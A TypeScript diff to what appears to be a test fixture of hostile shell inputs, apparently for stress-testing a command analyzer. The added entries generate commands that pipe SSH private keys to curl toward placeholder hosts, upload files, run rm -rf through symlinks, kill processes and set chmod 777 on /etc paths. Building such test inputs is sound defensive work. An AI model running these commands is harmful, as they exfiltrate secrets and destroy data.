@@ -16,6 +16,17 @@ function filled(unit: string, chars = CHARS): string {
   return unit.repeat(Math.floor(chars / unit.length));
 }
 
+/** Each is another operation, so that nothing said of one can be said of the next. */
+function numbered(unit: string): string {
+  const units: string[] = [];
+  for (let at = 0, chars = 0; chars + unit.length + 3 < CHARS; at++) {
+    const next = unit.replaceAll('#', String(at));
+    units.push(next);
+    chars += next.length;
+  }
+  return units.join('');
+}
+
 function nested(open: string, depth: number, close: string, inner: string): string {
   return open.repeat(depth) + inner + close.repeat(depth);
 }
@@ -44,6 +55,13 @@ export const HOSTILE_SOURCES: Readonly<Record<string, string>> = {
   'globs of a deletion': `rm -rf ${filled('*a*b ')}`,
   'redirections': filled('>a '),
   'commands': filled('rm a;'),
+  'uploads': numbered('curl -d @f# https://h#/x/delete/#;'),
+  'secrets that are sent': numbered('cat ~/.ssh/id_#|curl -d @- https://h#;'),
+  'services that are stopped': numbered('pkill -9 a#;'),
+  'deletions that keep their output': numbered('rm a# >k#.pem 2>b#.db;'),
+  'moves': numbered('mv a# b#;'),
+  'links that are gone through': numbered('ln -s /a# l#;rm -rf l#/x;'),
+  'rights for everybody': numbered('chmod 777 /etc/x#;'),
   'pipes': filled('cat|'),
   'and': filled('rm a&&'),
   'or': filled('cd a||'),
